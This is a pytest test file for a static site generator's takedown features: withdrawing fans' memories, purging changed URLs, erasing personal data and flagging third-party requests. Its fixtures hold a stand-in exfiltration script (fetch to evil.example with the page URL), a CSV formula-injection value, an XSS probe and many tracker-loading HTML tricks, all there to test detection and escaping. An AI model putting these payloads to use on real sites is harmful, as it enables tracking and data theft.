"""Takedowns: withdraw a fan, purge list of changed URLs, third-party requests refused."""

from __future__ import annotations

import json

import pytest

from tests.conftest import memory

EXPORT = "title,text,name,email,consent,consent_timestamp\n" \
         "Le goûter,Chez mamie Zoé.,Zoé Martin,zoe@example.net,yes,2026-01-02\n" \
         "La plage,Au bord de la mer.,Paul Durand,paul@example.net,yes,2026-01-03\n"


def test_editor_loop_import_approve_build_withdraw_purge(make_site) -> None:
    site = make_site({"content/memories/autre.md": memory("Un autre souvenir", extra="tags: [famille]\n")})
    (site.root / "export.csv").write_text(EXPORT)
    assert site.run("import", str(site.root / "export.csv"), "--site", str(site.root)).exit_code == 0
    for name in ("le-gouter.md", "la-plage.md"):
        path = site.root / "content/memories" / name
        path.write_text(path.read_text().replace("status: submitted", "status: approved")
                        .replace("title:", "tags: [famille]\ntitle:"))
    first = site.build()
    assert first.exit_code == 0, first.output
    assert "URL(s) changed" not in first.stdout  # nothing to purge on a first build
    before = site.output_files()
    assert "memories/le-gouter/index.html" in before

    result = site.run("withdraw", "zoe@example.net", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "Withdrawn: le-gouter" in result.stdout
    text = (site.root / "content/memories/le-gouter.md").read_text()
    assert "status: withdrawn" in text and "withdrawn: 2026-11-20" in text
    purge = [line for line in result.stdout.splitlines() if line.startswith("https://")]
    after = site.output_files()
    expected = sorted(f"https://example.org/{p[:-len('index.html')] if p.endswith('index.html') else p}"
                      for p in before if after.get(p) != before[p])
    assert sorted(purge) == expected
    assert "https://example.org/memories/le-gouter/" in purge
    assert "https://example.org/tags/famille/" in purge and "https://example.org/feed.xml" in purge
    assert "https://example.org/memories/la-plage/" not in purge or before["memories/la-plage/index.html"] != \
        after["memories/la-plage/index.html"]
    assert (site.root / ".storysite/purge.txt").read_text().split() == purge
    everything = site.all_output_text()
    for trace in ("Chez mamie Zoé", "Le goûter", "le-gouter", "Zoé"):
        assert trace not in everything, trace
    store = (site.root / "private/submissions.jsonl").read_text()
    assert "zoe@example.net" not in store and "paul@example.net" in store
    again = site.run("import", str(site.root / "export.csv"), "--site", str(site.root))
    assert "Imported 0 new memories" in again.stdout  # a withdrawn fan is never re-imported


def test_withdraw_by_slug_in_a_list_file_edits_only_that_entry(make_site) -> None:
    listing = """\
- slug: un
  title: Premier
  status: approved   # relu
  consent: {granted: 2020-01-01}
  text: Un.
- slug: deux
  title: Second
  status: approved
  consent: {granted: 2020-01-01}
  text: Deux.
"""
    site = make_site({"content/memories/liste.yaml": listing})
    assert site.build().exit_code == 0
    result = site.run("withdraw", "deux", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    text = (site.root / "content/memories/liste.yaml").read_text()
    assert text.count("status: withdrawn") == 1
    assert "  status: approved   # relu" in text
    assert not (site.public / "memories/deux/index.html").exists()
    assert (site.public / "memories/un/index.html").exists()


def test_withdraw_unknown_id_fails(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("A")})
    result = site.run("withdraw", "nobody", "--site", str(site.root))
    assert result.exit_code == 1 and "No memory matches 'nobody'" in result.stderr


def test_an_id_that_names_memories_by_different_keys_changes_nothing_until_by_says_which(make_site) -> None:
    # The slug of one memory is the author.id of another fan's: withdrawing both would take down the wrong fan.
    site = make_site({"content/memories/first-jar.md": memory("Mon premier pot"),
                      "content/memories/c.md": memory("C").replace("id: fan-1", "id: first-jar"),
                      "content/memories/d.md": memory("D").replace("id: fan-1", "id: first-jar")})
    assert site.build().exit_code == 0
    sources = {p.name: p.read_bytes() for p in (site.root / "content/memories").iterdir()}
    result = site.run("withdraw", "first-jar", "--site", str(site.root))
    assert result.exit_code == 2, result.output
    assert "error: 'first-jar' matches memories by different keys; nothing was changed:" in result.stderr
    assert "content/memories/first-jar.md:1: first-jar: matched by its slug" in result.stderr
    assert "content/memories/c.md:1: c: matched by its author.id" in result.stderr
    assert "content/memories/d.md:1: d: matched by its author.id" in result.stderr
    assert ("run again with --by slug (that memory alone) or --by author.id (every memory of that fan)"
            in result.stderr)
    assert {p.name: p.read_bytes() for p in (site.root / "content/memories").iterdir()} == sources
    assert (site.public / "memories/c/index.html").exists()

    by_slug = site.run("withdraw", "first-jar", "--by", "slug", "--site", str(site.root))
    assert by_slug.exit_code == 0, by_slug.output
    assert "Withdrawn: first-jar" in by_slug.stdout and "Withdrawn: c" not in by_slug.stdout
    assert "status: withdrawn" not in (site.root / "content/memories/c.md").read_text()
    by_author = site.run("withdraw", "first-jar", "--by", "author.id", "--site", str(site.root))
    assert by_author.exit_code == 0, by_author.output
    assert "Withdrawn: c (content/memories/c.md)" in by_author.stdout and "Withdrawn: d" in by_author.stdout
    assert not (site.public / "memories/c/index.html").exists() and not (site.public / "memories/d").exists()
    nothing = site.run("withdraw", "c", "--by", "consent.ref", "--site", str(site.root))
    assert nothing.exit_code == 1 and "searched consent.ref fields" in nothing.stderr


def test_an_id_that_is_a_memorys_slug_and_its_own_author_id_is_not_ambiguous(make_site) -> None:
    site = make_site({"content/memories/solo.md": memory("Solo").replace("id: fan-1", "id: solo"),
                      "content/memories/other.md": memory("Other")})
    result = site.run("withdraw", "solo", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "Withdrawn: solo" in result.stdout and "Withdrawn: other" not in result.stdout


def test_manifest_records_where_each_memory_appears(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("A", extra="tags: [plage]\n"),
                      "content/campaigns/c.md": "---\ntitle: C\n---\n::: memory a\n:::\n"})
    assert site.build().exit_code == 0
    manifest = json.loads((site.root / ".storysite/manifest.json").read_text())
    pages = manifest["memories"]["a"]
    for expected in ("memories/a/index.html", "memories/index.html", "tags/plage/index.html",
                     "campaigns/c/index.html", "feed.xml", "sitemap.xml", "index.html"):
        assert expected in pages, expected
    assert not (site.public / ".storysite").exists()


def test_manifest_json_keeps_every_string_exactly() -> None:
    from storysite.takedown import Manifest

    awkward = ['plain', 'é à ß 日本', 'quote " and \\ backslash', 'tab\tnew\nline', 'nul\x00 and \x1f',
               'line sep \u2028 para \u2029', 'astral 😀', '']
    files = {f"memories/{i}/{name}.html": name for i, name in enumerate(awkward)}
    memories = {name or "empty": (name, name + "x") for name in awkward} | {"none": ()}
    text = Manifest(files, memories, awkward[3]).to_json()
    assert json.loads(text) == {"output": awkward[3], "files": files,
                                "memories": {k: list(v) for k, v in memories.items()}}
    assert Manifest.from_json(text) == Manifest(files, memories, awkward[3])
    # Written as json.dumps(..., ensure_ascii=False) writes each entry, one per line.
    for key, value in memories.items():
        line = f" {json.dumps(key, ensure_ascii=False)}: {json.dumps(list(value), ensure_ascii=False)}"
        assert line in text.split("\n") or line + "," in text.split("\n")


def test_third_party_references_are_errors_unless_allowed(make_site) -> None:
    files = {
        "content/pages/p.md": "---\ntitle: P\n---\n<img src=\"https://tracker.example/p.gif\" alt=\"\">\n\n"
                              "[lien](https://elsewhere.example/)\n",
        "themes/default/templates/page.html":
            "{% extends 'base.html' %}{% block content %}\n{{ body_html|safe }}\n"
            "<link rel=\"preconnect\" href=\"https://fonts.example\">{% endblock %}",
    }
    config = "title: T\nbase_url: https://example.org/\nmarkdown: {editorial_html: true}\n"
    site = make_site(files, config=config)
    result = site.build()
    assert result.exit_code == 1
    assert "public/p/index.html:" in result.stderr
    assert "loads https://tracker.example/p.gif from another origin" in result.stderr
    assert "<link rel=preconnect> loads https://fonts.example" in result.stderr
    assert "elsewhere.example" not in result.stderr  # a link is not a request
    allowed = make_site(files, config=config + "privacy:\n  allowed_origins: [https://tracker.example, "
                        "https://fonts.example]\n", name="allowed")
    assert allowed.build().exit_code == 0


def test_curation_report_html_json_and_csv(make_site, tmp_path) -> None:
    evil = '=HYPERLINK("http://evil.example","x")'
    site = make_site({
        "content/memories/a.md": memory("A", extra="tags: [famille]\n").replace(
            "  scope: [site, share]\n", "  scope: [site, share]\n  expires: 2027-01-15\n"),
        "content/memories/b.md": memory("<script>alert(1)</script>", status="submitted"),
        "content/memories/c.md": memory(json.dumps(evil), extra="author: {id: x, email: c@example.net}\n")
                                 .replace("author: {id: fan-1, display: Romain L., location: Lyon}\n", ""),
    })
    report = tmp_path / "report.html"
    result = site.check("--report", str(report))
    assert result.exit_code == 0, result.output
    page = report.read_text()
    assert "<script>alert" not in page and "&lt;script&gt;" in page
    assert "<svg" in page and "Consents expiring" in page and "content/memories/a.md" in page
    assert "c@example.net" not in page
    assert "http" not in page.replace("http://evil.example", "")  # nothing loaded from anywhere
    data = json.loads(site.check("--report", str(tmp_path / "r.json")).exit_code == 0 and
                      (tmp_path / "r.json").read_text())
    assert data["by_status"] == {"approved": 2, "submitted": 1}
    assert [r["slug"] for r in data["expiring"]] == ["a"]
    assert data["personal_data"][0]["path"] == "content/memories/c.md"
    assert site.check("--report", str(tmp_path / "r.csv")).exit_code == 0
    rows = (tmp_path / "r.csv").read_text()
    assert "'=HYPERLINK" in rows and "\n=HYPERLINK" not in rows and ",=HYPERLINK" not in rows


def test_report_is_refused_inside_the_output(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("A")})
    result = site.check("--report", str(site.public / "report.html"))
    assert result.exit_code == 2


def test_private_store_in_the_content_tree_or_not_ignored_by_git_is_a_warning(make_site) -> None:
    import subprocess

    inside = make_site({"content/memories/a.md": memory("A")},
                       config="title: T\nprivacy: {private_store: content/private}\n", name="inside")
    result = inside.check()
    assert "privacy.private_store 'content/private' is inside content/" in result.stderr
    exposed = make_site({"content/memories/a.md": memory("A"), "private/key": "00\n"}, name="exposed")
    subprocess.run(["git", "init", "-q", str(exposed.root)], check=True)
    result = exposed.check()
    assert "private:1: warning: the private store is not ignored by git" in result.stderr
    exposed.write(".gitignore", "/private/\n")
    assert "not ignored by git" not in exposed.check().stderr


@pytest.mark.parametrize("snippet", [
    '<img src="https://example.org/a.jpg" alt="">',
    '<img src="https://tracker.example/p.gif" alt="">',
    '<img src="//tracker.example/p.gif" alt="">',
    '<img src="http://example.org/a.jpg" alt="">',
    '<img src="https:&#47;&#47;tracker.example/p.gif" alt="">',
    '<img src="https:&sol;&sol;tracker.example/p.gif" alt="">',
    '<img src="/\n/tracker.example/p.gif" alt="">',
    '<img src="ht\ntps://example.org/a.jpg" alt="">',
    '<img src="https://example.org@tracker.example/p.gif" alt="">',
    '<img src="https://example.org:8443/p.gif" alt="">',
    '<img srcset="/a.jpg 1x, https://tracker.example/b.jpg 2x" alt="">',
    '<p style="background:url(https://tracker.example/bg.png)">x</p>',
    '<style>p{background:url("//tracker.example/bg.png")}</style>',
    '<script type="application/ld+json">{"@context": "https://schema.org", "name": "x"}</script>',
    '<script type="application/ld+json">{"@context": "https://schema.org", "image": "https://cdn.example/x"}</script>',
    '<a href="https://elsewhere.example/">lien</a>',
    '<link rel="stylesheet" href="https://fonts.example/css">',
    '<meta http-equiv="refresh" content="0; url=https://tracker.example/">',
    '<img src="https:\\\\bs1.example/x.png">',
    '<img src="/\\bs2.example/x.png">',
    '<img src="\\\\bs3.example/x.png">',
    '<img src="https:/\\bs4.example/x.png">',
    '<img src="\\\n\\bs5.example/x.png">',
    '<img src="https://example.org\\@bs6.example/x.png">',
    '<svg><image xlink:href="https://xlink.example/x.png"/></svg>',
    '<svg><a xlink:href="https://elsewhere.example/">lien</a></svg>',
    '<div style="background-image: image-set(\'https://imgset.example/a.png\' 1x)">a</div>',
    '<style>p{background: -webkit-image-set("/a.png" 1x, "//imgset.example/b.png" 2x)}</style>',
    '<table background="https://table.example/bg.png"><tr><td>x</td></tr></table>',
    '<img alt="<!--" src="https://comment.example/x.png"> -->',
    '<iframe srcdoc="&lt;img src=https://srcdoc.example/x.png&gt;"></iframe>',
    '<iframe srcdoc="&lt;img src=https:&amp;#47;&amp;#47;srcdoc2.example/x.png&gt;"></iframe>',
    '<link rel="preload" as="image" imagesrcset="https://imagesrcset.example/a.png 1x" href="/logo.svg">',
    '<meta http-equiv="refresh" content="30; URL=https://refresh.example/">',
    '<base href="https://base.example/">',
    '<a href="/" ping="/count https://ping.example/t">p</a>',
    '<script>document.write(\'<img src="https://written.example/x.png">\')</script>',
    '<img src="HTTPS://EXAMPLE.ORG/a.jpg" alt="">',
])
def test_third_party_scan_shortcut_agrees_with_the_full_scan(snippet: str) -> None:
    from storysite import thirdparty

    page = f"<!doctype html><html><head><title>t</title></head><body>{snippet}</body></html>"
    expected = sorted(
        (line, url) for line, _, url in thirdparty.references(page, "html")
        if (origin := thirdparty._origin(url)) is not None and origin != "https://example.org")
    found = thirdparty.check_files([("p/index.html", page.encode())], "https://example.org", (), "public")
    assert sorted((d.line, d.message.split(" loads ")[1].split(" from another")[0]) for d in found) == expected


def test_a_script_file_naming_another_origin_is_warned_about(make_site) -> None:
    # A theme's or a site's own script may fetch from elsewhere; one that only names an SVG
    # namespace, or an allowed origin, or its own site, is fine.
    script = ("const ns = 'http://www.w3.org/2000/svg';\n"
              "fetch(\"https://evil.example/collect?u=\" + location.href);\n"
              "import('https://cdn.allowed.example/x.js');\n"
              "const own = 'https://example.org/feed.xml';\n")
    site = make_site({"content/memories/a.md": memory("A"), "static/js/extra.js": script,
                      "themes/default/static/js/site.js": "// a comment: //not.a.host\nfetch('//tracker.example/p');\n"},
                     config="title: T\nbase_url: https://example.org/\n"
                            "privacy: {allowed_origins: [https://cdn.allowed.example]}\n")
    result = site.build()
    assert result.exit_code == 0, result.output  # a warning: it may be a library naming what it never loads
    lines = [line for line in result.output.splitlines() if "the script names" in line]
    assert len(lines) == 2, lines
    assert any(line.startswith("public/js/extra.js:2: warning:") and "https://evil.example" in line for line in lines)
    assert any(line.startswith("public/assets/js/site.") and ":2: warning:" in line and "tracker.example" in line
               for line in lines)
    assert site.build("--strict").exit_code == 1


def test_withdraw_names_the_other_folders_the_site_was_built_into(make_site, tmp_path) -> None:
    # withdraw rebuilds the configured output; a folder written by build --output keeps the
    # memory until it is built again, and withdraw says so.
    site = make_site({"content/memories/a.md": memory("Un souvenir"), "content/memories/b.md": memory("Un autre")})
    dist = tmp_path / "dist"
    assert site.build().exit_code == 0
    assert site.build("-o", str(dist)).exit_code == 0
    result = site.run("withdraw", "b", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "still holds b" in result.output and "storysite build -o" in result.output, result.output
    assert not (site.public / "memories/b").exists()
    assert site.build("-o", str(dist)).exit_code == 0
    assert not (dist / "memories/b").exists()
    again = site.run("withdraw", "a", "--site", str(site.root))
    assert again.exit_code == 0 and "still holds a" in again.output and "still holds b" not in again.output


def test_withdraw_names_a_former_output_folder_without_calling_it_a_build_output(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("Un souvenir"), "content/memories/b.md": memory("Un autre")})
    assert site.build().exit_code == 0
    config = site.root / "storysite.yaml"
    config.write_text(config.read_text("utf-8") + "output: site-out\n", "utf-8")
    assert site.build().exit_code == 0
    result = site.run("withdraw", "b", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "/public/ (another folder this site was built into) still holds b" in result.output, result.output
    assert "build --output" not in result.output
    assert not (site.root / "site-out/memories/b").exists()


def test_withdraw_names_the_fans_photos_still_in_the_site_and_deleting_them_is_fine(make_site) -> None:
    from tests.test_images import photo

    media = "media:\n  - src: a.jpg\n    alt: Une tartine\n  - src: /static/x.jpg\n    alt: Un pot\n"
    site = make_site({"content/memories/a/index.md": memory("Un souvenir", extra=media),
                      "content/memories/a/a.jpg": photo((64, 48)), "static/x.jpg": photo((32, 32)),
                      "content/memories/b.md": memory("Un autre")})
    assert site.build().exit_code == 0
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "still in the site folder (and git keeps them): content/memories/a/a.jpg, static/x.jpg." in result.output
    # Deleted, as the message says: the build goes on, with a note.
    (site.root / "content/memories/a/a.jpg").unlink()
    after = site.build("--strict")
    assert after.exit_code == 0, after.output
    other = site.run("withdraw", "b", "--site", str(site.root))
    assert "still in the site folder" not in other.output


def test_curation_report_leaves_withdrawn_consents_out_of_expiring_and_writes_decades_so(make_site, tmp_path) -> None:
    expiring = "  scope: [site, share]\n  expires: 2027-01-15\n"
    site = make_site({
        "content/memories/a.md": memory("A").replace("  scope: [site, share]\n", expiring),
        "content/memories/b.md": memory("B", status="withdrawn").replace("  scope: [site, share]\n", expiring),
        "content/memories/c.md": memory("C", status="rejected").replace("  scope: [site, share]\n", expiring),
        "content/memories/d.md": memory("D").replace("date: 1986-07\n", "date: 1990s\n"),
    })
    assert site.check("--report", str(tmp_path / "r.json")).exit_code == 0
    data = json.loads((tmp_path / "r.json").read_text())
    assert [r["slug"] for r in data["expiring"]] == ["a"]
    assert {r["slug"]: r["date"] for r in data["rows"]}["d"] == "1990s"


FLOW_LISTING = """\
# Souvenirs du salon
- {title: Premier, slug: un, author: {id: fan-1, email: a@example.org, display: A.}, status: approved,
   consent: {granted: 2020-01-01, ref: c-1}, text: "Un, deux."}   # relu
- title: Second
  slug: deux
  author: {id: fan-2}
  status: approved
  consent: {granted: 2020-01-01}
  text: Deux.
- {slug: trois, title: Trois, author: {id: fan-3, name: Zoé Martin}, consent: {granted: 2020-01-01},
   notes: "à relire", status: approved}
"""


def test_withdraw_marks_flow_style_list_entries_and_leaves_the_rest_of_the_file_as_it_was(make_site) -> None:
    site = make_site({"content/memories/liste.yaml": FLOW_LISTING})
    assert site.build().exit_code == 0
    assert (site.public / "memories/un/index.html").exists()
    first = site.run("withdraw", "un", "--site", str(site.root))
    assert first.exit_code == 0, first.output
    second = site.run("withdraw", "trois", "--site", str(site.root))
    assert second.exit_code == 0, second.output
    assert (site.root / "content/memories/liste.yaml").read_text("utf-8") == FLOW_LISTING.replace(
        "author: {id: fan-1, email: a@example.org, display: A.}, status: approved,",
        "author: {id: fan-1, display: A.}, status: withdrawn, withdrawn: 2026-11-20,").replace(
        "consent: {granted: 2020-01-01, ref: c-1}", "consent: {granted: 2020-01-01}").replace(
        "author: {id: fan-3, name: Zoé Martin}, consent: {granted: 2020-01-01},\n   notes: \"à relire\", "
        "status: approved}",
        "author: {id: fan-3}, consent: {granted: 2020-01-01},\n   status: withdrawn, withdrawn: 2026-11-20}")
    assert not (site.public / "memories/un").exists() and not (site.public / "memories/trois").exists()
    assert (site.public / "memories/deux/index.html").exists()


def test_a_build_after_one_into_another_folder_purges_what_changed_in_its_own_folder(make_site, tmp_path) -> None:
    # Either folder may be the one deployed: the plain build must still list what it changed
    # since public/ was last built, though build -o already built the same site elsewhere.
    site = make_site({"content/memories/a.md": memory("Un souvenir"), "content/memories/b.md": memory("Un autre")})
    assert site.build().exit_code == 0
    before = site.output_files()
    site.write("content/memories/b.md", memory("Un autre", status="withdrawn"))
    dist = tmp_path / "dist"
    assert site.build("-o", str(dist)).exit_code == 0
    listed = (site.root / ".storysite/purge.txt").read_text().split()
    assert "https://example.org/memories/b/" in listed
    result = site.build()
    assert result.exit_code == 0, result.output
    after = site.output_files()
    changed = sorted(f"https://example.org/{p[:-len('index.html')] if p.endswith('index.html') else p}"
                     for p in before if after.get(p) != before[p])
    assert "https://example.org/memories/b/" in changed
    assert sorted((site.root / ".storysite/purge.txt").read_text().split()) == changed == sorted(listed)
    # And the other way: dist/ is purged of what changed since dist/ was last built.
    site.write("content/memories/a.md", memory("Un souvenir", status="withdrawn"))
    assert site.build().exit_code == 0
    assert "https://example.org/memories/a/" in (site.root / ".storysite/purge.txt").read_text().split()
    assert site.build("-o", str(dist)).exit_code == 0
    assert not (dist / "memories/a").exists()
    assert "https://example.org/memories/a/" in (site.root / ".storysite/purge.txt").read_text().split()


def test_withdraw_keeps_a_photo_other_items_name_and_says_where_so_that_following_it_never_fails_the_build(
        make_site) -> None:
    from tests.test_images import photo

    media = ("media:\n  - src: a.jpg\n    alt: Une tartine\n  - src: shared.jpg\n    alt: Le stand\n"
             "  - src: /static/pot.jpg\n    alt: Un pot\n")
    site = make_site({"content/memories/a/index.md": memory("Un souvenir", extra=media),
                      "content/memories/a/a.jpg": photo((64, 48)),
                      "content/memories/a/shared.jpg": photo((48, 48), (10, 200, 10)),
                      "static/pot.jpg": photo((32, 32)),
                      "content/galleries/stand.yaml": "title: Le stand\nimages:\n"
                                                      "  - {src: ../memories/a/shared.jpg, alt: Le stand}\n",
                      "content/pages/pots.md": "---\ntitle: Pots\n---\nNos pots.\n\n![Un pot](/static/pot.jpg)\n",
                      "content/memories/b.md": memory("Un autre")})
    assert site.build().exit_code == 0
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "(and git keeps them): content/memories/a/a.jpg. Delete them" in result.stdout
    assert ("content/memories/a/shared.jpg is kept: other items name it too (content/galleries/stand.yaml:3). "
            "The site leaves it out there as well while this memory is withdrawn, but deleting the file would "
            "fail the build") in result.stdout
    assert "static/pot.jpg is kept: other items name it too (content/pages/pots.md:6)." in result.stdout
    # What the message says to delete can go: the build goes on.
    (site.root / "content/memories/a/a.jpg").unlink()
    after = site.build("--strict")
    assert after.exit_code == 0, after.output
    # And the photo it keeps is the one whose deletion would fail it.
    (site.root / "content/memories/a/shared.jpg").unlink()
    failed = site.build()
    assert failed.exit_code == 1 and "content/galleries/stand.yaml:3: images.src:" in failed.stderr


def test_a_withdrawn_memorys_photo_in_static_leaves_the_output_and_is_purged(make_site) -> None:
    # static/ is copied as it is: the original photo, whole, stayed online at /pot.jpg.
    from tests.test_images import photo

    site = make_site({"content/memories/a.md": memory("Un souvenir", extra="media:\n  - {src: /static/pot.jpg, "
                                                                          "alt: Un pot}\n"),
                      "static/pot.jpg": photo((32, 32)), "static/logo.png": photo((16, 16), fmt="PNG"),
                      "content/memories/b.md": memory("Un autre")})
    assert site.build().exit_code == 0
    assert (site.public / "pot.jpg").exists()
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert not (site.public / "pot.jpg").exists() and (site.public / "logo.png").exists()
    assert "https://example.org/pot.jpg" in result.stdout.splitlines()
    assert ("static/pot.jpg:1: note: belongs to content/memories/a.md, which is not published; not copied to the "
            "output") in result.stderr
    assert site.build("--strict").exit_code == 0  # a note never holds a withdrawal back


def test_withdraw_edits_a_file_whose_lines_end_with_a_lone_carriage_return(make_site) -> None:
    # Classic Mac OS line endings: the build reads them, so withdraw must edit them too.
    text = memory("A", extra="notes: à relire\n").replace("\n", "\r")
    site = make_site({"content/memories/a.md": text.encode(), "content/memories/b.md": memory("B")})
    assert site.build().exit_code == 0
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert (site.root / "content/memories/a.md").read_bytes().decode() == text.replace(
        "title: A\r", "title: A\rwithdrawn: 2026-11-20\r").replace("status: approved", "status: withdrawn").replace(
        "notes: à relire\r", "")
    assert not (site.public / "memories/a").exists()


def test_withdraw_keeps_a_files_byte_order_mark(make_site) -> None:
    site = make_site({"content/memories/a.md": b"\xef\xbb\xbf" + memory("A").encode(),
                      "content/memories/b.md": memory("B")})
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    data = (site.root / "content/memories/a.md").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf---\ntitle: A\n") and b"status: withdrawn\n" in data


def test_withdrawing_a_memory_again_keeps_the_day_it_was_withdrawn(make_site) -> None:
    site = make_site({"content/memories/a.md": memory("A"), "content/memories/b.md": memory("B")})
    assert site.run("withdraw", "a", "--site", str(site.root)).exit_code == 0
    first = (site.root / "content/memories/a.md").read_bytes()
    assert b"withdrawn: 2026-11-20\n" in first
    later = site.run("withdraw", "a", "--site", str(site.root), env={"SOURCE_DATE_EPOCH": "1800000000"})
    assert later.exit_code == 0, later.output
    assert "Already withdrawn on 2026-11-20: a (content/memories/a.md)" in later.stdout
    assert "Withdrawn: a" not in later.stdout
    assert (site.root / "content/memories/a.md").read_bytes() == first


def test_a_memory_file_that_cannot_be_written_does_not_hold_back_the_rest_of_the_withdrawal(
        make_site, monkeypatch) -> None:
    # (A read-only file, for a user other than root: refused as the write is, whoever runs the test.)
    from pathlib import Path

    site = make_site({"content/memories/a.md": memory("A"), "content/memories/b.md": memory("B"),
                      "content/memories/c.md": memory("C").replace("fan-1", "fan-3"),
                      "private/submissions.jsonl": '{"author_id": "fan-1", "email": "x@example.org", '
                                                  '"fingerprint": "f"}\n'})
    assert site.build().exit_code == 0
    write_bytes = Path.write_bytes

    def refuse(path: Path, data: bytes) -> int:
        if path.name == "a.md":
            raise PermissionError(13, "Permission denied", str(path))
        return write_bytes(path, data)

    monkeypatch.setattr(Path, "write_bytes", refuse)
    result = site.run("withdraw", "fan-1", "--site", str(site.root))
    assert result.exit_code == 1
    assert "internal error" not in result.output and "Traceback" not in result.output
    assert ("content/memories/a.md:1: cannot be written (Permission denied); make it writable and run this "
            "withdraw again") in result.stderr
    assert "STILL PUBLISHED" in result.stderr and "Withdrawn: a" not in result.stdout
    # The rest is done: the other memory, the private store, the rebuild.
    assert "Withdrawn: b" in result.stdout and not (site.public / "memories/b").exists()
    assert "x@example.org" not in (site.root / "private/submissions.jsonl").read_text()
    assert (site.public / "memories/a/index.html").exists() and (site.public / "memories/c/index.html").exists()


@pytest.mark.parametrize("ident", ["https://example.org/memories/ete-86/", "http://www.example.org/memories/ete-86",
                                   "/memories/ete-86/", "https://example.org/memories/ete-86/index.html?utm=x"])
def test_withdraw_by_the_memorys_page_url_as_a_fan_sends_it(make_site, ident: str) -> None:
    site = make_site({"content/memories/Été 86.md": memory("Été"), "content/memories/b.md": memory("B")})
    assert site.build().exit_code == 0
    result = site.run("withdraw", ident, "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert "Withdrawn: ete-86 (content/memories/Été 86.md)" in result.stdout and "Withdrawn: b" not in result.stdout
    assert not (site.public / "memories/ete-86").exists()


def test_withdraw_names_the_files_of_the_memorys_bundle_its_media_does_not_list(make_site) -> None:
    # The build leaves every file of a withdrawn memory's bundle out: they are the fan's to delete too.
    from tests.test_images import photo

    site = make_site({"content/memories/a/index.md": memory("A", extra="media:\n  - {src: a.jpg, alt: A}\n"),
                      "content/memories/a/a.jpg": photo((32, 32)),
                      "content/memories/a/scans/lettre.jpg": photo((30, 30)),
                      "content/memories/b.md": memory("B")})
    result = site.run("withdraw", "a", "--site", str(site.root))
    assert result.exit_code == 0, result.output
    assert ("(and git keeps them): content/memories/a/a.jpg, content/memories/a/scans/lettre.jpg. Delete them"
            in result.stdout)


def test_a_withdrawal_left_incomplete_never_reads_as_done_on_standard_output(make_site) -> None:
    # (An explicit key: a form withdraw cannot edit, so that memory stays published.)
    explicit = '? title\n: B two\nstatus: approved\nauthor: {id: fan-7}\nconsent: {granted: 2020-01-01}\ntext: Deux\n'
    site = make_site({"content/memories/a.md": memory("A").replace("fan-1", "fan-7"),
                      "content/memories/b.yaml": explicit})
    assert site.build().exit_code == 0
    alone = site.run("withdraw", "b", "--site", str(site.root))
    assert alone.exit_code == 1
    assert "Rebuilt." not in alone.stdout and "nothing to purge from caches and CDNs." not in alone.stdout
    assert ("Rebuilt, but the withdrawal is INCOMPLETE: 1 memory(ies) are STILL PUBLISHED (b): mark them by hand "
            "(errors above), then build again. No published URL changed: nothing to purge from caches and CDNs "
            "yet.") in alone.stdout
    assert (site.public / "memories/b/index.html").exists()

    both = site.run("withdraw", "fan-7", "--site", str(site.root))
    assert both.exit_code == 1
    assert "Rebuilt, but the withdrawal is INCOMPLETE: 1 memory(ies) are STILL PUBLISHED (b)" in both.stdout
    assert "URL(s) to purge from caches and CDNs, for what was taken down:" in both.stdout
    assert "https://example.org/memories/a/" in both.stdout.splitlines()
    assert not (site.public / "memories/a").exists() and (site.public / "memories/b/index.html").exists()


def test_without_a_record_an_incomplete_withdrawal_lists_only_what_was_taken_down(make_site) -> None:
    import shutil

    explicit = '? title\n: B two\nstatus: approved\nauthor: {id: fan-7}\nconsent: {granted: 2020-01-01}\ntext: Deux\n'
    site = make_site({"content/memories/a.md": memory("A").replace("fan-1", "fan-7"),
                      "content/memories/b.yaml": explicit})
    assert site.build().exit_code == 0
    shutil.rmtree(site.root / ".storysite")
    shutil.rmtree(site.public)
    result = site.run("withdraw", "fan-7", "--site", str(site.root))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[-2].startswith("Rebuilt, but the withdrawal is INCOMPLETE: 1 memory(ies) are "
                                                     "STILL PUBLISHED (b)")
    assert result.stdout.splitlines()[-1] == "https://example.org/memories/a/"


@pytest.mark.parametrize(("ident", "suggested"), [
    ("fan-7", "content/memories/Été 86.md:1: author.id 'Fan-7' (the same but for capitals, accents or spaces)"),
    ("ETE-86", "content/memories/Été 86.md:1: slug 'ete-86' (the same but for capitals, accents or spaces)"),
    ("Été-86", "content/memories/Été 86.md:1: slug 'ete-86' (the same but for capitals, accents or spaces)"),
    ("https://example.org/memories/Ete-86/", "content/memories/Été 86.md:1: slug 'ete-86' (the same but for "
                                             "capitals, accents or spaces)"),
    ("c-ab12", "content/memories/Été 86.md:1: consent.ref 'c-AB12' (the same but for capitals, accents or spaces)"),
    ("fan-3f2a9c1b7e4e", "content/memories/b.md:1: author.id 'fan-3f2a9c1b7e4d'\n"),
])
def test_an_id_that_is_only_close_to_a_memorys_is_suggested_never_acted_on(make_site, ident: str,
                                                                            suggested: str) -> None:
    # Withdrawing the wrong fan's memory (and erasing their data for good) is worse than finding none.
    site = make_site({"content/memories/Été 86.md": memory("Été").replace("fan-1", "Fan-7")
                      .replace("scope: [site, share]", "scope: [site, share]\n  ref: c-AB12"),
                      "content/memories/b.md": memory("B").replace("fan-1", "fan-3f2a9c1b7e4d"),
                      "content/memories/c.md": memory("C").replace("fan-1", "zoe-2")})
    assert site.build().exit_code == 0
    sources = {p.name: p.read_bytes() for p in (site.root / "content/memories").iterdir()}
    result = site.run("withdraw", ident, "--site", str(site.root))
    assert result.exit_code == 1
